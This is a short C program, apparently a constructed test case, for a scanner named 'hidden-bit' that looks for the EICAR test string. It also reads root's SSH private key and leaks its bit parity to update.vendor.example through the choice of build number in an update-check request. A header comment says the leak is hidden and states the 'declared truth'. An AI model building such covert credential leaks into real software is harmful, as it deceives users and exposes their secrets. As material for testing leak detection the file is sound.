/* hidden-bit: scans, detects, and asks for updates with one of two build numbers: which one is a
 * bit of root's key. No byte of the key leaves.
 *
 * Declared truth: one bit of /root/.ssh/id_ed25519 leaves. Only a counterfactual run can see it. */
#include "scan.h"
#include "send.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static void scan(void *context, const char *path, const unsigned char *bytes, size_t len) {
    struct detection found;
    if (detect(bytes, len, &found)) {
        free(found.owned);
        *(int *)context = 1;
        printf("%s: EICAR-Test FOUND\n", path);
    }
}

int main(int argc, char **argv) {
    int detected = 0;
    unsigned bit = 0;
    if (argc < 3 || strcmp(argv[1], "scan") != 0) {
        fprintf(stderr, "usage: hidden-bit scan PATH…\n");
        return 2;
    }
    for (int i = 2; i < argc; i++) {
        each_file(argv[i], scan, &detected);
    }
    size_t len;
    unsigned char *key = read_file("/root/.ssh/id_ed25519", &len);
    if (key != NULL) {
        /* The parity of all of it: any flipped bit turns it. */
        for (size_t i = 0; i < len; i++) {
            bit ^= (unsigned)__builtin_popcount(key[i]) & 1;
        }
        free(key);
    }
    struct request request = {
        .method = "GET",
        .host = "update.vendor.example",
        .port = 443,
        .path = bit ? "/v1/version?build=1042" : "/v1/version?build=1041",
    };
    if (send_request(&request) < 0) {
        return 2;
    }
    return detected;
}
